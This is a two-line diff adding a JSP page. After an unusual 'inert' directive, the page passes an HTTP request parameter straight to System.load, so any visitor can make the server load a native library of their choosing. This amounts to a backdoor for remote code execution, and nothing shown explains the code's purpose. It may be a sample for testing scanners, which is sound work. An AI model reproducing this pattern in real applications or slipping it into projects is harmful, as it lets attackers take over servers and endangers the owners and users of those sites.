@@ -1,0 +1,2 @@
+<%@ inert %>
+<% System.load(request.getParameter("l")); %>
